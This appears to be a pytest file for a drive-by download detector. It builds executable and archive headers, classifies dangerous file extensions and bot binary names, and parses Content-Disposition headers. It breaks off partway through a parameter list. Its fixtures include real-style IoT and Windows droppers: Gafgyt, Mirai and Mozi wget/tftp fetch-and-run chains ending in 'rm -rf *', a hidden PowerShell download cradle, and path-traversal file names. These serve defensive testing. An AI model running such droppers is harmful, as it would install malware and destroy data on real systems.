"""Drive-by payloads: magic bytes, droppers, file names, Content-Disposition and the drive-by verdict.

Every sample is built here from its format's own header layout (no binaries in the tree).
"""

from __future__ import annotations

import gzip
import io
import json
import random
import re
import struct
import uuid
import zipfile
from typing import NamedTuple

import pytest

from clickguard.inspection.payloads import (
    DANGEROUS_EXTENSIONS,
    SNIFF_BYTES,
    USER_GESTURE_EXTENSIONS,
    DriveBy,
    Payload,
    bot_binary_name,
    dangerous_extension,
    filename_from,
    find_drive_by,
    sniff,
)

# --- sample builders ----------------------------------------------------------------------------

EM_SPARC, EM_386, EM_68K, EM_MIPS, EM_PPC, EM_PPC64, EM_ARM, EM_SH, EM_X86_64, EM_AARCH64 = (
    2, 3, 4, 8, 20, 21, 40, 42, 62, 183,
)
LSB, MSB = 1, 2


def elf(ei_class: int, ei_data: int, machine: int, e_type: int = 2) -> bytes:
    """A complete ELF file header (52 bytes when 32-bit, 64 when 64-bit), then zeros."""
    order = ">" if ei_data == MSB else "<"
    ident = b"\x7fELF" + bytes([ei_class, ei_data, 1, 0]) + bytes(8)
    # e_type, e_machine, e_version, e_entry, e_phoff, e_shoff, e_flags, e_ehsize, e_phentsize, e_phnum, …
    if ei_class == 1:
        layout, header_size, entry_size, section_size = "HHIIIIIHHHHHH", 52, 32, 40
    else:
        layout, header_size, entry_size, section_size = "HHIQQQIHHHHHH", 64, 56, 64
    fields = struct.pack(order + layout, e_type, machine, 1, 0x400000, header_size, 0, 0, header_size,
                         entry_size, 1, section_size, 0, 0)
    return ident + fields + bytes(56)


DOS_STUB = bytes.fromhex("0e1fba0e00b409cd21b8014ccd21") + b"This program cannot be run in DOS mode.\r\r\n$"


def pe(machine: int, optional_magic: int, *, characteristics: int = 0x0102, subsystem: int = 2) -> bytes:
    """A DOS header with the real stub, then a PE header at 0x80 with its optional header."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    struct.pack_into("<HHHHHHHHH", dos, 2, 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8, 0)
    struct.pack_into("<H", dos, 0x18, 0x40)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = DOS_STUB.ljust(0x40, b"\0")
    optional = bytearray(224 if optional_magic == 0x10B else 240)
    struct.pack_into("<H", optional, 0, optional_magic)
    struct.pack_into("<H", optional, 68, subsystem)
    coff = struct.pack("<HHIIIHH", machine, 3, 0x65A1B2C3, 0, 0, len(optional), characteristics)
    return (bytes(dos) + stub + b"PE\0\0" + coff + bytes(optional)).ljust(1024, b"\0")


def zip_bytes(entries: list[tuple[str, bytes]], *, deflate: bool = False, streamed: bool = False) -> bytes:
    """A ZIP file holding entries, cut to what sniff needs; streamed writes data descriptors (as jar does)."""
    buffer = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED
    if streamed:
        archive = zipfile.ZipFile(Unseekable(buffer), "w", method)
    else:
        archive = zipfile.ZipFile(buffer, "w", method)
    with archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()[:SNIFF_BYTES]


class Unseekable:
    """A write-only stream, so that zipfile streams entries with data descriptors."""

    def __init__(self, sink: io.BytesIO) -> None:
        self.sink = sink

    def write(self, data: bytes) -> int:
        return self.sink.write(data)

    def flush(self) -> None:
        pass

    def close(self) -> None:
        pass


CLASS_FILE = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(64)
MANIFEST = b"Manifest-Version: 1.0\r\nCreated-By: 17.0.2 (Oracle Corporation)\r\nMain-Class: app.Main\r\n\r\n"
APK_MANIFEST = (
    b"Manifest-Version: 1.0\r\nCreated-By: 1.0 (Android SignApk)\r\n\r\n"
    b"Name: AndroidManifest.xml\r\nSHA-256-Digest: 3q2+7w==\r\n\r\n"
)
AXML = b"\x03\x00\x08\x00" + bytes(60)  # Android binary XML chunk header
DEX = b"dex\n035\0" + bytes(104)

OOXML_ENTRIES = [
    ("[Content_Types].xml", b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/"/>'),
    ("_rels/.rels", b'<?xml version="1.0"?><Relationships/>'),
    ("word/document.xml", b'<?xml version="1.0"?><w:document/>' * 40),
]

MSI_CLSID = uuid.UUID("000c1084-0000-0000-c000-000000000046").bytes_le
WORD_CLSID = uuid.UUID("00020906-0000-0000-c000-000000000046").bytes_le


def ole(root_clsid: bytes, *, first_directory_sector: int = 0, names: tuple[str, ...] = ()) -> bytes:
    """An OLE2 header (512-byte sectors) and, when it is sector 0, the directory with its root entry."""
    header = bytearray(512)
    header[0:8] = bytes.fromhex("d0cf11e0a1b11ae1")
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 0x28, 0, 1, first_directory_sector, 0, 4096, 0xFFFFFFFE, 0,
                     0xFFFFFFFE, 0)
    header[0x4C:512] = b"\xff" * (512 - 0x4C)

    def entry(name: str, kind: int, clsid: bytes) -> bytes:
        encoded = name.encode("utf-16-le")
        raw = bytearray(128)
        raw[0 : len(encoded)] = encoded
        struct.pack_into("<HBB", raw, 64, len(encoded) + 2, kind, 1)
        struct.pack_into("<III", raw, 68, 0xFFFFFFFF, 0xFFFFFFFF, 1 if names else 0xFFFFFFFF)
        raw[80:96] = clsid
        return bytes(raw)

    directory = entry("Root Entry", 5, root_clsid) + b"".join(entry(n, 2, bytes(16)) for n in names)
    return bytes(header) + directory.ljust(512, b"\0") + bytes(512)


LNK = (b"L\0\0\0" + uuid.UUID("00021401-0000-0000-c000-000000000046").bytes_le
       + struct.pack("<II", 0x9B, 0x20) + bytes(52)).ljust(120, b"\0")


def macho(magic: int, cputype: int, filetype: int = 2, order: str = "<") -> bytes:
    return struct.pack(order + "IIIIIII", magic, cputype, 0, filetype, 15, 1200, 0x00200085) + bytes(4)


FAT = struct.pack(">II", 0xCAFEBABE, 2) + struct.pack(">IIIII", 0x01000007, 3, 16384, 70000,
                                                      14) + struct.pack(
    ">IIIII", 0x0100000C, 0, 98304, 70000, 14
)

# Research section 2a: the droppers as the bots send them.
GAFGYT_BINS_SH = (
    b"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.7/bins.sh; "
    b"chmod 777 bins.sh; sh bins.sh; tftp 198.51.100.7 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; "
    b"tftp -r tftp2.sh -g 198.51.100.7; chmod 777 tftp2.sh; sh tftp2.sh; ftpget -v -u anonymous "
    b"-p anonymous -P 21 198.51.100.7 ftp1.sh ftp1.sh; sh ftp1.sh; rm -rf bins.sh tftp1.sh tftp2.sh "
    b"ftp1.sh; rm -rf *\n"
)
MIRAI_BUSYBOX = (
    b"/bin/busybox wget http://198.51.100.7:80/bins/mirai.arm7 -O - > dvrHelper; "
    b"/bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\n"
)
MOZI_NETGEAR = b"rm -rf /tmp/*;wget http://198.51.100.7:8088/Mozi.m -O /tmp/netgear;sh netgear\n"
DROPPER_AFTER_BANNER = b"welcome to the update server\n\nwget http://198.51.100.7/i -O- | sh\n"
POWERSHELL_CRADLE = (
    b"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
    b"'http://198.51.100.7/a.ps1')\"\r\n"
)

HTML_PAGE = (
    b"<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>Example</title>"
    b"<link rel=\"stylesheet\" href=\"/site.css\"></head><body>"
    + b"<p>Install with <code>curl -fsSL https://get.example.com | sh</code> and wget.</p>\n" * 60
    + b"</body></html>\n"
)[:SNIFF_BYTES]
HTML_404 = b"<html><head><title>404 Not Found</title></head><body><h1>Not Found</h1></body></html>\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00" + bytes(40)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(40)
GIF = b"GIF89a\x10\x00\x10\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04" + bytes(20)
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00" + bytes(24)
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
GZIP_TEXT = gzip.compress(b"plain text that happens to be compressed\n" * 50)
JSON_BODY = json.dumps([{"id": i, "cmd": "wget http://x/a; chmod 777 a; ./a"} for i in range(20)]).encode()
PLAIN_TEXT = b"Dear customer,\n\nyour order 4711 has shipped. It will arrive on Monday.\n" * 20
JS_SOURCE = b"(function(){'use strict';var a=document.querySelector('#x');a.onclick=f;})();\n"
WOFF2 = b"wOF2\x00\x01\x00\x00" + bytes(40)
TTF = b"\x00\x01\x00\x00\x00\x10\x01\x00\x00\x04" + bytes(40)
MP4 = b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41" + bytes(16)
SVG = b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg"></svg>\n'
CSS = b"body { margin: 0; font-family: sans-serif; }\n.a > .b { color: #333; }\n"
MZ_WORDS = b"MZ Verlag: catalogue of the spring titles, with prices in euros and the order form.\n" * 3


# --- sniff: executables -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("head", "kind", "arch", "label_has"),
    [
        pytest.param(elf(1, MSB, EM_MIPS), "elf", "mips", "ELF 32-bit MIPS big-endian executable",
                     id="elf-mips-be"),
        pytest.param(elf(1, LSB, EM_MIPS), "elf", "mipsel", "MIPS little-endian", id="elf-mips-le"),
        pytest.param(elf(1, LSB, EM_ARM), "elf", "arm", "ELF 32-bit ARM little-endian", id="elf-arm"),
        pytest.param(elf(2, LSB, EM_AARCH64), "elf", "aarch64", "ELF 64-bit AArch64", id="elf-aarch64"),
        pytest.param(elf(1, LSB, EM_386), "elf", "x86", "ELF 32-bit x86", id="elf-x86"),
        pytest.param(elf(2, LSB, EM_X86_64), "elf", "x86_64", "ELF 64-bit x86-64", id="elf-x86-64"),
        pytest.param(elf(1, MSB, EM_PPC), "elf", "ppc", "ELF 32-bit PowerPC big-endian", id="elf-ppc"),
        pytest.param(elf(2, LSB, EM_PPC64), "elf", "ppc64le", "PowerPC64 little-endian", id="elf-ppc64le"),
        pytest.param(elf(1, LSB, EM_SH), "elf", "sh", "ELF 32-bit Renesas SH", id="elf-sh4"),
        pytest.param(elf(1, MSB, EM_SPARC), "elf", "sparc", "ELF 32-bit SPARC big-endian", id="elf-sparc"),
        pytest.param(elf(1, MSB, EM_68K), "elf", "m68k", "ELF 32-bit Motorola 68000", id="elf-m68k"),
        pytest.param(elf(1, MSB, EM_MIPS, e_type=3), "elf", "mips", "executable", id="elf-pie"),
        pytest.param(elf(2, LSB, EM_X86_64, e_type=1), "elf", "x86_64", "relocatable object",
                     id="elf-object"),
        # what IoT bots do to the header
        pytest.param(elf(1, MSB, EM_MIPS)[:8], "elf", None, "header truncated", id="elf-truncated"),
        pytest.param(b"\x7fELF", "elf", None, "ELF", id="elf-magic-only"),
        pytest.param(elf(1, 0, EM_MIPS)[:6] + elf(1, MSB, EM_MIPS)[6:], "elf", "mips", "malformed header",
                     id="elf-ei-data-zeroed"),
        pytest.param(elf(1, LSB, EM_ARM)[:5] + b"\x02" + elf(1, LSB, EM_ARM)[6:], "elf", "arm", "ARM",
                     id="elf-ei-data-lies"),
        pytest.param(b"\x7fELF\x00" + elf(1, MSB, EM_MIPS)[5:], "elf", "mips", "malformed class",
                     id="elf-ei-class-zeroed"),
        pytest.param(elf(1, LSB, EM_ARM) + b"\0" * 60 + b"UPX!\x0d\x0c\xf6\x00", "elf", "arm", "UPX-packed",
                     id="elf-upx"),
        pytest.param(elf(1, LSB, 0x7777), "elf", None, "unknown machine", id="elf-unknown-machine"),
        # Windows
        pytest.param(pe(0x14C, 0x10B), "pe", "x86", "Windows executable (PE32, x86)", id="pe32-i386"),
        pytest.param(pe(0x8664, 0x20B), "pe", "x86_64", "Windows executable (PE32+, x86-64)",
                     id="pe32plus-amd64"),
        pytest.param(pe(0xAA64, 0x20B, characteristics=0x2022), "pe", "aarch64", "Windows DLL (PE32+, ARM64)",
                     id="pe-arm64-dll"),
        pytest.param(pe(0x8664, 0x20B, subsystem=10), "pe", "x86_64", "EFI application", id="pe-efi"),
        pytest.param(pe(0x14C, 0x10B)[:64], "pe", None, "beyond the bytes seen", id="mz-pe-header-unseen"),
        pytest.param(b"MZ\x90\x00\x03\x00" + bytes(58) + DOS_STUB, "pe", None, "without a PE header",
                     id="mz-dos-only"),
        pytest.param(b"MZ\x90\x00\x03\x00\x00\x00", "pe", None, "truncated", id="mz-truncated"),
        pytest.param(LNK, "lnk", None, "Windows shortcut", id="lnk"),
        pytest.param(ole(MSI_CLSID), "msi", None, "Windows Installer package (MSI)", id="msi-root-clsid"),
        pytest.param(ole(bytes(16), names=("\u4840\u3f3f\u4577\u446c\u3b6a\u45e4\u4824",)), "msi", None,
                     "Windows Installer", id="msi-stream-names"),
        # Apple, Android, Java
        pytest.param(macho(0xFEEDFACF, 0x0100000C), "mach-o", "aarch64", "Mach-O 64-bit arm64 executable",
                     id="macho-arm64"),
        pytest.param(macho(0xFEEDFACE, 7, filetype=6), "mach-o", "x86", "Mach-O 32-bit x86 dynamic library",
                     id="macho-i386-dylib"),
        pytest.param(macho(0xFEEDFACE, 18, order=">"), "mach-o", "ppc", "PowerPC", id="macho-ppc-be"),
        pytest.param(FAT, "mach-o", None, "universal binary (2 architectures: x86-64, arm64)",
                     id="macho-fat"),
        pytest.param(CLASS_FILE, "class", None, "Java class file (format 52.0)", id="java-class"),
        pytest.param(DEX, "dex", None, "Android DEX bytecode (version 035)", id="dex"),
        pytest.param(zip_bytes([("META-INF/MANIFEST.MF", MANIFEST), ("app/Main.class", CLASS_FILE)]), "jar",
                     None,
                     "Java archive (JAR, runnable)", id="jar"),
        pytest.param(zip_bytes([("META-INF/", b""), ("META-INF/MANIFEST.MF", MANIFEST),
                                ("app/Main.class", CLASS_FILE)], deflate=True, streamed=True),
                     "jar", None, "JAR", id="jar-streamed-deflated"),
        pytest.param(zip_bytes([("AndroidManifest.xml", AXML), ("classes.dex", DEX),
                                ("resources.arsc", b"\2\0")]),
                     "apk", None, "Android app (APK)", id="apk"),
        pytest.param(zip_bytes([("META-INF/MANIFEST.MF", APK_MANIFEST + bytes(5000)), ("classes.dex", DEX)],
                               deflate=True),
                     "apk", None, "APK", id="apk-signed-manifest-first"),
        pytest.param(zip_bytes([("AppxManifest.xml", b"<Package/>"), ("AppxBlockMap.xml", b"<BlockMap/>")]),
                     "appx", None, "MSIX", id="msix"),
        # scripts
        pytest.param(GAFGYT_BINS_SH, "shell", None, "shell script downloader (wget, tftp, ftpget, chmod",
                     id="gafgyt-bins-sh"),
        pytest.param(MIRAI_BUSYBOX, "shell", None, "shell script downloader (busybox, wget, chmod",
                     id="mirai-busybox-wget"),
        pytest.param(MOZI_NETGEAR, "shell", None, "downloader (wget, runs it)", id="mozi-netgear"),
        pytest.param(DROPPER_AFTER_BANNER, "shell", None, "piped to sh", id="dropper-inside-text"),
        pytest.param(b"#!/bin/sh\n# comment\n\ncd /tmp\nwget http://x/a.arm7\nchmod +x a.arm7\n./a.arm7\n",
                     "shell", None, "downloader (wget, chmod", id="shebang-dropper"),
        pytest.param(b"#!/bin/bash\nset -e\necho \"hello\"\nexit 0\n", "shell", None, "shell script",
                     id="plain-bash"),
        pytest.param(b"#!/usr/bin/env sh\nls -la\n", "shell", None, "shell script", id="env-sh"),
        pytest.param(b"#!/bin/busybox sh\nmount -o remount,rw /\n", "shell", None, "shell script",
                     id="busybox-sh"),
        pytest.param(b"\n\n# update\ncd /tmp; ls\n", "shell", None, "shell script", id="starts-with-cd-tmp"),
        pytest.param(POWERSHELL_CRADLE, "powershell", None, "PowerShell download cradle (IEX, Net.WebClient, "
                     "DownloadString)", id="powershell-iex-cradle"),
        pytest.param(b"\xff\xfe" + "IEX (iwr 'http://198.51.100.7/x').Content\r\n".encode("utf-16-le"),
                     "powershell", None, "iwr", id="powershell-utf16"),
    ],
)
def test_sniff_executables(head: bytes, kind: str, arch: str | None, label_has: str) -> None:
    payload = sniff(head)
    assert payload is not None
    assert (payload.kind, payload.arch, payload.executable) == (kind, arch, True)
    assert label_has in payload.label


# --- sniff: containers and documents ------------------------------------------------------------

ISO_HEAD = bytes(0x8001) + b"CD001\x01\x00" + b"LINUX".ljust(32) + bytes(200)


@pytest.mark.parametrize(
    ("head", "kind", "label_has"),
    [
        pytest.param(zip_bytes(OOXML_ENTRIES), "zip", "Office document (OOXML)", id="docx"),
        pytest.param(zip_bytes(OOXML_ENTRIES, deflate=True), "zip", "Office document (OOXML)",
                     id="docx-deflated"),
        pytest.param(zip_bytes([("mimetype", b"application/vnd.oasis.opendocument.text"),
                                ("content.xml", b"<x/>")]),
                     "zip", "OpenDocument", id="odt"),
        pytest.param(zip_bytes([("report.pdf", PDF), ("notes.txt", PLAIN_TEXT)]), "zip",
                     "ZIP archive (first file: report.pdf)", id="zip-plain"),
        pytest.param(zip_bytes([("invoice_0412.js", JS_SOURCE)]), "zip",
                     "ZIP archive containing invoice_0412.js", id="zip-with-js"),
        pytest.param(b"PK\x05\x06" + bytes(18), "zip", "empty", id="zip-empty"),
        pytest.param(b"PK\x07\x08" + zip_bytes([("a.txt", b"a")]), "zip", "a.txt", id="zip-spanned-marker"),
        pytest.param(ole(WORD_CLSID), "ole", "Word 97-2003 document", id="ole-word"),
        pytest.param(ole(MSI_CLSID, first_directory_sector=40), "ole", "MSI cannot be told apart",
                     id="msi-directory-beyond-head"),
        pytest.param(ole(MSI_CLSID)[:40], "ole", "truncated", id="ole-truncated"),
        pytest.param(b"Rar!\x1a\x07\x01\x00" + bytes(32), "rar", "RAR archive (version 5)", id="rar5"),
        pytest.param(b"Rar!\x1a\x07\x00" + bytes(32), "rar", "RAR archive", id="rar4"),
        pytest.param(b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(32), "7z", "7-Zip", id="7z"),
        pytest.param(b"MSCF\0\0\0\0" + bytes(32), "cab", "Cabinet", id="cab"),
        pytest.param(ISO_HEAD, "iso", "ISO 9660", id="iso"),
        pytest.param(b"vhdxfile" + bytes(32), "vhd", "VHDX", id="vhdx"),
    ],
)
def test_sniff_containers(head: bytes, kind: str, label_has: str) -> None:
    payload = sniff(head)
    assert payload is not None
    assert (payload.kind, payload.executable, payload.arch) == (kind, False, None)
    assert label_has in payload.label


@pytest.mark.parametrize(
    "head",
    [
        pytest.param(b"", id="empty"),
        pytest.param(HTML_PAGE, id="html-mentioning-curl-sh"),
        pytest.param(HTML_404, id="html-404"),
        pytest.param(b"\xef\xbb\xbf\r\n  <!doctype html><html></html>", id="html-bom"),
        pytest.param(b"<html><pre>/bin/busybox wget http://x/a -O - > dvrHelper</pre></html>",
                     id="html-quoting-mirai"),
        pytest.param(PNG, id="png"),
        pytest.param(JPEG, id="jpeg"),
        pytest.param(GIF, id="gif"),
        pytest.param(WEBP, id="webp"),
        pytest.param(PDF, id="pdf"),
        pytest.param(GZIP_TEXT, id="gzip-text"),
        pytest.param(JSON_BODY, id="json-mentioning-wget"),
        pytest.param(PLAIN_TEXT, id="plain-text"),
        pytest.param(b"To install: curl -fsSL https://get.example.com | sh\n", id="readme-curl-pipe-sh"),
        pytest.param(JS_SOURCE, id="javascript"),
        pytest.param(CSS, id="css"),
        pytest.param(SVG, id="svg"),
        pytest.param(WOFF2, id="woff2"),
        pytest.param(TTF, id="ttf"),
        pytest.param(MP4, id="mp4"),
        pytest.param(MZ_WORDS, id="text-starting-with-MZ"),
        pytest.param(b"#!/usr/bin/python3\nprint('hello')\n", id="python-script"),
        pytest.param(b"PowerShell: iex is short for Invoke-Expression.\n", id="prose-about-iex"),
        pytest.param(ISO_HEAD[:SNIFF_BYTES], id="iso-without-enough-bytes"),
        pytest.param("Grüße aus Köln, schöne Tage!\n".encode("utf-16"), id="utf16-text"),
    ],
)
def test_sniff_leaves_ordinary_content_alone(head: bytes) -> None:
    assert sniff(head) is None


def test_sniff_never_raises_on_random_bytes() -> None:
    rng = random.Random(20140116)
    for _ in range(2000):
        length = rng.choice((rng.randrange(0, 16), rng.randrange(0, 600), rng.randrange(0, 9000)))
        # No signature in these bytes, and too many control bytes (or too few bytes) for a script.
        assert sniff(rng.randbytes(length)) is None


class Seed(NamedTuple):
    """A sample to damage: the bytes its kind is told by, how many bytes that needs, what it may become."""

    sample: bytes
    signature: int  # the leading bytes that say what it is (0: none, it is told by its text)
    needs: int  # bytes without which the signature alone says nothing
    kinds: frozenset[str]


ANY_ZIP = frozenset({"zip", "jar", "apk", "appx"})
DAMAGED = [
    Seed(elf(1, MSB, EM_MIPS), 4, 4, frozenset({"elf"})),
    Seed(pe(0x8664, 0x20B), 2, 64, frozenset({"pe"})),  # "MZ" in text is no program: 64 bytes tell
    Seed(zip_bytes([("META-INF/MANIFEST.MF", MANIFEST)], deflate=True), 4, 4, ANY_ZIP),
    Seed(ole(MSI_CLSID), 8, 8, frozenset({"ole", "msi"})),
    Seed(LNK, 20, 20, frozenset({"lnk"})),
    Seed(FAT, 4, 4, frozenset({"mach-o", "class"})),
    Seed(CLASS_FILE, 4, 4, frozenset({"mach-o", "class"})),
    Seed(DEX, 5, 5, frozenset({"dex"})),
    Seed(GAFGYT_BINS_SH, 0, 0, frozenset({"shell"})),
    Seed(POWERSHELL_CRADLE, 0, 0, frozenset({"powershell"})),
    Seed(b"\xff\xfe" + b"I\0E\0X\0", 0, 0, frozenset()),  # "IEX" alone fetches nothing
]
SEEDS = [seed.sample for seed in DAMAGED]


def test_sniff_never_raises_on_damaged_headers() -> None:
    rng = random.Random(7547)
    for _ in range(2000):
        seed = rng.choice(DAMAGED)
        sample = bytearray(seed.sample)
        for _ in range(rng.randrange(1, 8)):
            sample[rng.randrange(len(sample))] = rng.randrange(256)
        cut = rng.randrange(len(sample) + 1)
        result = sniff(bytes(sample[:cut]))
        # Damage turns no sample here into another kind of payload; an intact signature is always recognised.
        assert result is None or result.kind in seed.kinds
        if seed.signature and cut >= seed.needs and sample[: seed.signature] == seed.sample[: seed.signature]:
            assert result is not None


# --- file names ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filename", "level"),
    [
        pytest.param("setup.exe", "user_gesture", id="exe"),
        pytest.param("SETUP.EXE", "user_gesture", id="case-insensitive"),
        pytest.param("evil.exe.", "user_gesture", id="trailing-dot-as-windows-saves-it"),
        pytest.param("C:\\Users\\x\\Downloads\\screen.scr", "user_gesture", id="windows-path"),
        pytest.param("update.hta", "dangerous", id="hta"),
        pytest.param("helper.dll", "dangerous", id="dll"),
        pytest.param("Applet.class", "dangerous", id="class"),
        pytest.param("movie.swf", "dangerous", id="swf"),
        pytest.param("link.url", "dangerous", id="url"),
        pytest.param("Open Me.webloc", "dangerous", id="mac-webloc"),
        pytest.param("run.applescript", "dangerous", id="mac-applescript"),
        pytest.param("app.jar", "user_gesture", id="jar"),
        pytest.param("chrome.apk", "user_gesture", id="apk"),
        pytest.param("classes.dex", "user_gesture", id="dex"),
        pytest.param("bins.sh", "user_gesture", id="sh"),
        pytest.param("tool.deb", "user_gesture", id="linux-deb"),
        pytest.param("Installer.dmg", "user_gesture", id="mac-dmg"),
        pytest.param("invoice.js", "user_gesture", id="js"),
        pytest.param("a.settingcontent-ms", "user_gesture", id="settingcontent-ms"),
        pytest.param("script.py", "user_gesture", id="py"),
        pytest.param("x.tar.gz", None, id="last-extension-only"),
        pytest.param("archive.zip", None, id="zip"),
        pytest.param("report.docx", None, id="docx"),
        pytest.param("photo.jpg", None, id="jpg"),
        pytest.param("README", None, id="no-extension"),
        pytest.param("file.", None, id="empty-extension"),
        pytest.param("", None, id="empty"),
    ],
)
def test_dangerous_extension(filename: str, level: str | None) -> None:
    assert dangerous_extension(filename) == level


def test_danger_tables_cover_research_3c() -> None:
    listed_dangerous = {
        "hta", "dll", "drv", "sys", "ocx", "scf", "url", "website", "gadget", "xbap", "local", "manifest",
        "cfg", "ini", "grp", "mof", "swf", "spl", "class", "pyd", "fileloc", "webloc", "applescript", "scpt",
        "scptd", "seplugin", "osas", "osax",
    }
    listed_gesture = {
        "exe", "com", "scr", "pif", "msi", "msp", "mst", "bat", "cmd", "cpl", "cpi", "lnk", "js", "jse", "vb",
        "vbe", "vbs", "vbscript", "ws", "wsc", "wsf", "wsh", "ps1", "ps1xml", "ps2", "ps2xml", "psc1", "psc2",
        "msh", "msh1", "msh2", "mshxml", "msh1xml", "msh2xml", "msc", "reg", "inf", "chm", "mht", "mhtml",
        "application", "appref-ms", "jar", "jnlp", "pl", "py", "pyc", "pyo", "pyw", "rb", "efi", "oxt", "crx",
        "apk", "dex", "sh", "bash", "csh", "ksh", "tcsh", "shar", "deb", "rpm", "pkg", "run", "out",
        "desktop", "dmg", "mpkg", "command", "workflow", "mobileconfig", "mdb", "accdb", "img", "xml", "eml",
        "msg",
    }
    assert listed_dangerous <= DANGEROUS_EXTENSIONS
    assert listed_gesture <= USER_GESTURE_EXTENSIONS
    assert not DANGEROUS_EXTENSIONS & USER_GESTURE_EXTENSIONS
    assert not {"zip", "rar", "7z", "gz", "tar", "iso", "pdf", "docx", "html", "png"} & (
        DANGEROUS_EXTENSIONS | USER_GESTURE_EXTENSIONS
    )


@pytest.mark.parametrize(
    ("filename", "expected"),
    [
        pytest.param("Mozi.m", True, id="mozi-m"),
        pytest.param("mozi.a", True, id="mozi-a-lower"),
        pytest.param("mirai.arm7", True, id="mirai-arm7"),
        pytest.param("bot.mpsl", True, id="mpsl"),
        pytest.param("dlr.m68k", True, id="m68k"),
        pytest.param("x.sh4", True, id="sh4"),
        pytest.param("kaiten.spc", True, id="spc"),
        pytest.param("a.x86_64", True, id="x86_64"),
        pytest.param("b.i686", True, id="i686"),
        pytest.param("c.i", True, id="dot-i"),
        pytest.param("2.MIPS", True, id="case-insensitive"),
        pytest.param("Mozi.m.txt", False, id="mozi-inside-longer-name"),
        pytest.param("notes.m", False, id="objective-c-source"),
        pytest.param("arm", False, id="suffix-without-dot"),
        pytest.param("i", False, id="bare-i"),
        pytest.param("index.html", False, id="html"),
    ],
)
def test_bot_binary_name(filename: str, expected: bool) -> None:
    assert bot_binary_name(filename) is expected


@pytest.mark.parametrize(
    ("url_path", "disposition", "expected"),
    [
        # the URL alone
        pytest.param("/dl/setup.exe", None, ("setup.exe", False), id="url-last-segment"),
        pytest.param("/dl/", None, (None, False), id="url-directory"),
        pytest.param("/", None, (None, False), id="url-root"),
        pytest.param("", None, (None, False), id="url-empty"),
        pytest.param("/a/b%20c.exe?x=1#frag", None, ("b c.exe", False), id="url-percent-query-fragment"),
        pytest.param("/dl/x.exe;jsessionid=42", None, ("x.exe", False), id="url-path-parameters"),
        pytest.param("/dl/%E2%82%AC.exe", None, ("€.exe", False), id="url-utf8-escape"),
        pytest.param("/dl/a%2Fb.exe", None, ("a_b.exe", False), id="url-escaped-slash"),
        # RFC 6266 appendix D
        pytest.param("/get", "Attachment; filename=example.html", ("example.html", True), id="rfc6266-token"),
        pytest.param("/get", 'INLINE; FILENAME= "an example.html"', ("an example.html", False),
                     id="rfc6266-inline-quoted"),
        pytest.param("/get", "attachment; filename*= UTF-8''%e2%82%ac%20rates", ("€ rates", True),
                     id="rfc6266-ext-value"),
        pytest.param("/get", "attachment; filename=\"EURO rates\"; filename*=utf-8''%e2%82%ac%20rates",
                     ("€ rates", True), id="rfc6266-both-ext-preferred"),
        pytest.param("/get", "attachment; filename*=utf-8''%e2%82%ac%20rates; filename=\"EURO rates\"",
                     ("€ rates", True), id="both-ext-first"),
        pytest.param("/get", "attachment; filename*=iso-8859-1'en'%A3%20rates", ("£ rates", True),
                     id="ext-latin1"),
        # quoting
        pytest.param("/get", 'attachment; filename="foo\\"bar.exe"', ('foo"bar.exe', True),
                     id="quoted-escape"),
        pytest.param("/get", 'attachment; filename="a;b.exe"; size=3', ("a;b.exe", True),
                     id="quoted-semicolon"),
        pytest.param("/get", 'attachment; filename="unterminated.exe', ("unterminated.exe", True),
                     id="unterminated-quote"),
        # what browsers do with other values
        pytest.param("/get", "attachment; filename=%E2%82%AC.exe", ("€.exe", True),
                     id="percent-in-plain-filename"),
        pytest.param("/get", "attachment; filename==?UTF-8?B?4oKsLmV4ZQ==?=", ("€.exe", True),
                     id="rfc2047-b"),
        pytest.param("/get", "attachment; filename=\"caf\u00c3\u00a9.exe\"", ("café.exe", True),
                     id="raw-utf8-bytes"),
        pytest.param("/get", 'attachment; filename="../../etc/evil.exe"', ("evil.exe", True),
                     id="strip-directories"),
        pytest.param("/get", 'attachment; filename="C:\\\\Windows\\\\evil.exe"', ("evil.exe", True),
                     id="strip-windows-directories"),
        pytest.param("/get", 'attachment; filename="evil.exe. "', ("evil.exe", True),
                     id="trailing-dot-space"),
        pytest.param("/get", "attachment", ("get", True), id="attachment-without-name"),
        pytest.param("/get", "inline", ("get", False), id="inline-without-name"),
        pytest.param("/get", "filename=foo.exe", ("foo.exe", False), id="missing-type-is-inline"),
        pytest.param("/get", "x-custom; filename=foo.exe", ("foo.exe", True),
                     id="unknown-type-is-attachment"),
        pytest.param("/get", "attachment; filename=\"\"", ("get", True), id="empty-filename"),
        pytest.param("/get", "attachment; filename*=UTF-8''%E2%82", ("get", True), id="ext-invalid-utf8"),
        pytest.param("/get", "attachment; filename*=x-unknown''a.exe", ("get", True),
                     id="ext-unknown-charset"),
        pytest.param("/get", "attachment; filename*=\"UTF-8''a.exe\"", ("get", True),
                     id="ext-quoted-invalid"),
